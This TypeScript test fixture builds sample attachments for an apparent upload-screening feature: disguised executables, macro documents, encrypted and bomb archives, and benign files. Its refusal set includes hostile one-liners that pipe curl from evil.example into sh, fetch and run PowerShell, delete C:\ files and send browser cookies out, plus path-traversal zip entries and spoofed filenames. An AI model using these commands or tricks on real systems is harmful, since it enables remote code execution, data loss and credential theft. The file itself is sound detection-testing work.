import { closeSync, openSync, readSync } from 'node:fs'
import type { AttachmentRefusal } from '#domain/attachments.ts'
import { box, type VideoName } from './videos.ts'
import { makeZip, zipOf } from './zips.ts'

type Files = Record<string, Uint8Array | string>
const hex = (start: string, length = 600) => Buffer.concat([Buffer.from(start, 'hex'), Buffer.alloc(length, 7)])
const wide = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

/** The first part of the program that runs this. */
function ownProgram() {
  const file = openSync(process.execPath, 'r')
  const content = Buffer.alloc(200_000)
  readSync(file, content)
  closeSync(file)
  return content
}

/** A program of Windows: the small one of DOS that says so, then its own header. */
function windowsProgram() {
  const content = Buffer.alloc(1024)
  content.write('MZ', 'latin1')
  content.writeUInt32LE(0x80, 0x3c)
  content.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1')
  content.write('PE\0\0', 0x80, 'latin1')
  content.writeUInt16LE(0x8664, 0x84)
  return content
}

/** The old container of Office: its header, its list, whose entries are names in two bytes to the letter. */
function compound({ kind = '', names = [] as string[], content = '' }) {
  const list = ['Root Entry', ...names].map((name, i) => {
    const entry = Buffer.alloc(128)
    entry.write(name, 'utf16le')
    entry.writeUInt16LE((name.length + 1) * 2, 64)
    if (i === 0) entry.write(kind, 80, 'hex')
    return entry
  })
  const header = Buffer.alloc(512)
  header.write('d0cf11e0a1b11ae1', 'hex')
  header.writeUInt16LE(9, 30)
  return Buffer.concat([header, ...list, Buffer.from(content, 'latin1'), Buffer.alloc(512)])
}

const disk = (mark: string, at = 0x8001) => Buffer.concat([Buffer.alloc(at), Buffer.from(mark), Buffer.alloc(4000)])

const types = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.${main}.main+xml"/></Types>`
const document = (more: Files = {}) =>
  zipOf({
    '[Content_Types].xml': types('openxmlformats-officedocument.wordprocessingml.document'),
    '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
    'word/document.xml': '<?xml version="1.0"?><w:document/>',
    ...more,
  })

/** In pieces, so that no scanner takes this file for it. */
export const testVirus = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const shell = '#!/bin/sh\ncurl -s http://evil.example/x | sh\n'
const batch = '@echo off\r\ndel /q C:\\*.*\r\n'
const power = '$c = New-Object System.Net.WebClient\r\nInvoke-Expression $c.DownloadString("http://evil.example")\r\n'
const basic = '\' greetings\r\nDim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'
const host = 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");'
const browser = '(function () {\n  document.location = "http://evil.example/?" + document.cookie;\n})();\n'
const page = '<!doctype html><title>Sign in</title><script>alert(1)</script>'
const nested = (depth: number, inner: Buffer): Buffer =>
  depth === 0 ? inner : zipOf({ [`${depth}.zip`]: nested(depth - 1, inner) })

/** conversations.md C6: what must not be kept, by the reason it is refused with; each under a name that someone might send it by. */
export function makeHarmfulFiles(videos: Record<VideoName, Buffer>): Record<AttachmentRefusal, Files> {
  const windows = windowsProgram()
  const own = ownProgram()
  const zeros = Buffer.alloc(64 * 1024 * 1024)
  const jar = {
    'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: Evil\n',
    'Evil.class': hex('cafebabe00000041'),
  }
  const { 'picture.jpg': jpeg, 'picture.png': png, 'picture.gif': gif } = videos
  return {
    program: {
      'setup.exe': windows,
      'invoice.pdf': windows,
      'photo.jpg.exe': jpeg,
      'photo.exe.': jpeg,
      'photo.exe \u200B': jpeg,
      'photo\u202Egpj.scr': jpeg,
      'photo.exe::$DATA': jpeg,
      'report.ＥＸＥ': jpeg,
      'library.dll': windows,
      server: own,
      'holiday.png': own,
      'Update.dat': hex('cffaedfe0c000001'),
      'universal.dat': hex('cafebabe00000002'),
      'old-mac.dat': hex('feedface00000012'),
      'Main.dat': hex('cafebabe00000041'),
      'page.dat': hex('0061736d01000000'),
      'driver.msi': compound({ kind: '84100c0000000000c000000000000046' }),
      'letter.doc': compound({ kind: '84100c0000000000c000000000000046' }),
      'patch.doc': compound({ kind: '86100c0000000000c000000000000046' }),
      'prices.xls': compound({ names: ['Workbook', '_VBA_PROJECT_CUR', 'VBA', '_VBA_PROJECT'] }),
      'packed.doc': compound({ names: ['\u0001Ole10Native'], content: windows.toString('latin1') }),
      'install.sh': shell,
      'install.txt': shell,
      'picture.jpeg': shell,
      'run.command': 'say hello',
      'python.txt': '#!/usr/bin/env python3\nimport os\nos.system("id")\n',
      'tidy.bat': batch,
      'tidy.txt': `:: tidies up\r\nrem really\r\n${batch}`,
      'tidy.cmd': 'dir',
      'get.ps1': power,
      'get.txt': power,
      'get-wide.txt': wide(power),
      'one-line.txt': 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
      'hello.vbs': 'MsgBox "hello"',
      'hello.txt': basic,
      'hello.wsf': '<job><script language="VBScript">MsgBox 1</script></job>',
      'hello.xml': '<?xml version="1.0"?><package><job><script language="JScript">x()</script></job></package>',
      'app.hta': '<html><hta:application/></html>',
      'app.txt': '<html><head><hta:application id="x"></head></html>',
      'jscript.txt': host,
      'steal.js': browser,
      'steal.mjs': 'export {}',
      'steal.txt': `/* licence */\n// more\n${browser}`,
      'var.csv': 'var a = ["x"];\neval(a[0]);\n',
      'login.html': page,
      'login.HTM': 'hello',
      'login.txt': page,
      'login.pdf': `\uFEFF \n<!-- a -- b --><!-- c -->\n${page}`,
      'login.jpg': wide(page),
      'login.xml':
        '<?xml version="1.0"?>\n<!-- x -->\n<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
      'login.svg': '<script>alert(1)</script>',
      'login.mht': 'hello',
      'saved.eml':
        'From: <Saved by Blink>\r\nSnapshot-Content-Location: http://x.example/\r\nContent-Type: multipart/related; boundary="a"\r\n\r\n',
      'tool.jar': zipOf(jar),
      'tool.zip': zipOf(jar),
      'picture.gif': Buffer.concat([gif, zipOf(jar)]),
      'app.apk': zipOf({ 'AndroidManifest.xml': hex('03000800'), 'classes.dex': hex('6465780a30333500') }),
      'app.zip': zipOf({ 'AndroidManifest.xml': hex('03000800'), 'classes.dex': hex('6465780a30333500') }),
      'open me.lnk': hex('4c0000000114020000000000c000000000000046'),
      'open me.txt': hex('4c0000000114020000000000c000000000000046'),
      'link.url': '[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n',
      'link.txt': '[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n',
      'disc.iso': disk('CD001'),
      'disc.bin': disk('CD001'),
      'udf.bin': disk('BEA01'),
      'letter.docm': document(),
      'letter.docx': document({ 'word/vbaProject.bin': compound({ names: ['VBA'] }) }),
      'sheet.xlsx': zipOf({
        '[Content_Types].xml': types('ms-excel.sheet'),
        'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>',
      }),
      'letter.odt': zipOf({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'Basic/Standard/Module1.xml': '<script:module/>',
      }),
      'files.zip': zipOf({ 'readme.txt': 'Hello', 'bin/setup.exe': windows }),
      'hidden.zip': zipOf({ 'readme.txt': windows }),
      'linux.zip': zipOf({ 'photo.jpg': own }),
      'script.zip': zipOf({ 'start.sh': 'echo hello' }),
      'disguised.zip': zipOf({ 'notes.txt': shell }),
      'nested.zip': zipOf({ 'more.zip': zipOf({ 'much more.zip': zipOf({ 'setup.scr': windows }) }) }),
      'appended.png': Buffer.concat([png, zipOf({ 'setup.exe': windows }), Buffer.from('and more')]),
      'registry.txt': 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n',
    },
    locked: {
      'secret.zip': makeZip([{ name: 'photo.jpg', content: jpeg, isEncrypted: true }]),
      'half.zip': makeZip([
        { name: 'a.txt', content: 'hello' },
        { name: 'photo.jpg', content: jpeg, isEncrypted: true },
      ]),
      'aes.zip': makeZip([{ name: 'photo.jpg', content: jpeg, isEncrypted: true, method: 99 }]),
      'inner.zip': zipOf({ 'inner.zip': makeZip([{ name: 'a', content: 'x', isEncrypted: true }]) }),
      'contract.docx': compound({ names: ['EncryptionInfo', 'EncryptedPackage'] }),
      'cut off.zip': zipOf({ 'photo.jpg': jpeg }).subarray(0, -30),
    },
    harmful: {
      'virus.com': testVirus,
      'virus.txt': testVirus,
      'notes.docx': document({ 'word/media/a.txt': testVirus }),
      'virus.zip': zipOf({ 'a/b.txt': `${testVirus}\n` }),
      'virus in two.zip': zipOf({ 'b.zip': zipOf({ 'c.txt': testVirus }) }),
      'many.zip': makeZip(Array.from({ length: 1001 }, (_, i) => ({ name: `${i}.txt`, content: 'x' }))),
      'large.zip': makeZip(Array.from({ length: 17 }, (_, i) => ({ name: `${i}.txt`, content: zeros }))),
      'liar.zip': makeZip([{ name: 'a.txt', content: zeros, claimedBytes: 10 }]),
      'deep.zip': nested(7, zipOf({ 'a.txt': 'hello' })),
      'outside.zip': zipOf({ '../../etc/cron.d/x': 'hello' }),
    },
  }
}

/** What clients and colleagues send, with the type it must be found to be. */
export function makeGenuineFiles(videos: Record<VideoName, Buffer>): Record<string, [Uint8Array | string, string]> {
  const office = (kind: string, file: string) =>
    zipOf({
      '[Content_Types].xml': `<Types><Override PartName="/${file}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
      '_rels/.rels': '<Relationships/>',
      [file]: '<x/>',
    })
  const open = (kind: string) =>
    makeZip([
      { name: 'mimetype', content: `application/vnd.oasis.opendocument.${kind}`, method: 0 },
      { name: 'content.xml', content: '<office:document-content/>' },
      { name: 'Basic/script-lc.xml', content: '<library:libraries/>' },
    ])
  const pdf = '%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n%%EOF'
  const site = {
    'index.html': page,
    'app.js': browser,
    'old/jquery.js': 'window.XMLHttpRequest || new ActiveXObject("Microsoft.XMLHTTP");',
    'wp-login.php': '<?php echo 1;',
    'build/cli': '#!/usr/bin/env node\nconsole.log(1)\n',
    'style.css': 'body { color: red }',
  }
  const avif = Buffer.concat([
    box('ftyp', Buffer.from('avif\0\0\0\0avifmif1', 'latin1')),
    box('meta', Buffer.alloc(64)),
    box('mdat', Buffer.alloc(64)),
  ])
  const heic = Buffer.concat([
    box('ftyp', Buffer.from('heic\0\0\0\0heicmif1', 'latin1')),
    box('meta', Buffer.alloc(64)),
    box('mdat', Buffer.alloc(64)),
  ])
  const plain = 'text/plain'
  const xml = 'application/xml'
  return {
    'logo.png': [videos['picture.png'], 'image/png'],
    'IMG_2041.JPG': [videos['picture.jpg'], 'image/jpeg'],
    'wave.gif': [videos['picture.gif'], 'image/gif'],
    'hero.webp': [videos['picture.webp'], 'image/webp'],
    'hero.avif': [avif, 'image/avif'],
    'IMG_2042.HEIC': [heic, 'image/heic'],
    'scan.bmp': [videos['picture.bmp'], 'image/bmp'],
    'logo.svg': ['<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/></svg>', plain],
    'logo-2.svg': ['<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ""><svg/>', xml],
    'photo without ending': [videos['picture.jpg'], 'image/jpeg'],
    'contract.pdf': [pdf, 'application/pdf'],
    'letter.docx': [document(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    'prices.xlsx': [
      office('spreadsheetml.sheet', 'xl/workbook.xml'),
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ],
    'pitch.pptx': [
      office('presentationml.presentation', 'ppt/presentation.xml'),
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    ],
    'letter.odt': [open('text'), 'application/vnd.oasis.opendocument.text'],
    'sums.ods': [open('spreadsheet'), 'application/vnd.oasis.opendocument.spreadsheet'],
    'old letter.doc': [compound({ names: ['WordDocument', '1Table'] }), 'application/x-cfb'],
    'letter.rtf': ['{\\rtf1\\ansi Hello}', 'application/rtf'],
    'notes.txt': ['Let us use the blue one.\nIf it works, function over form;\n', plain],
    'MZ list.txt': ['MZ-1020 chair\nMZ-1021 table\n', plain],
    'Übersicht – März.txt': ['Grüße\n', plain],
    'wide.txt': [wide('Set the color to blue, please.\r\n'), plain],
    'how to.md': ['# How to\n\nOpen PowerShell, run `Set-ExecutionPolicy` and `Get-ChildItem`, then `iex`.\n', plain],
    'members.csv': ['name,email\nSam Field,sam@field.example\n', plain],
    'settings.json': ['{ "function": "var a = 1;" }\n', plain],
    'feed.xml': ['<?xml version="1.0"?>\n<rss version="2.0"><channel/></rss>', xml],
    'style.css': ['@import "a.css";\nbody { color: red; }\n', plain],
    'meeting.ics': ['BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n', 'text/calendar'],
    'sam.vcf': ['BEGIN:VCARD\r\nFN:Sam Field\r\nEND:VCARD\r\n', 'text/vcard'],
    'forwarded.eml': [
      'From: sam@field.example\r\nContent-Type: multipart/related; boundary="a"\r\n\r\nHello\r\n',
      plain,
    ],
    'error.log': ['2026-11-18 ERROR @ /checkout\n  at pay (app.js:10:2)\n', plain],
    'clip.mp4': [videos['phone.mp4'], 'video/mp4'],
    'clip.webm': [videos['page.webm'], 'video/webm'],
    'voice.mp3': [videos['sound.mp3'], 'audio/mpeg'],
    'voice.wav': [videos['sound.wav'], 'audio/wav'],
    'photos.zip': [
      zipOf({ 'a/': '', 'a/1.jpg': videos['picture.jpg'], 'a/2.png': videos['picture.png'] }),
      'application/zip',
    ],
    'website.zip': [zipOf(site), 'application/zip'],
    'both.zip': [zipOf({ 'letter.docx': document(), 'site.zip': zipOf(site) }), 'application/zip'],
    'full.zip': [
      makeZip(Array.from({ length: 1000 }, (_, i) => ({ name: `${i}.txt`, content: 'x' }))),
      'application/zip',
    ],
    'thing.sketch': [
      zipOf({ 'document.json': '{}', 'pages/1.json': '{}', 'previews/preview.png': videos['picture.png'] }),
      'application/zip',
    ],
    'font.woff2': [hex('774f463200010000'), 'font/woff2'],
    'data.custom': [Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 256)), 'application/octet-stream'],
  }
}
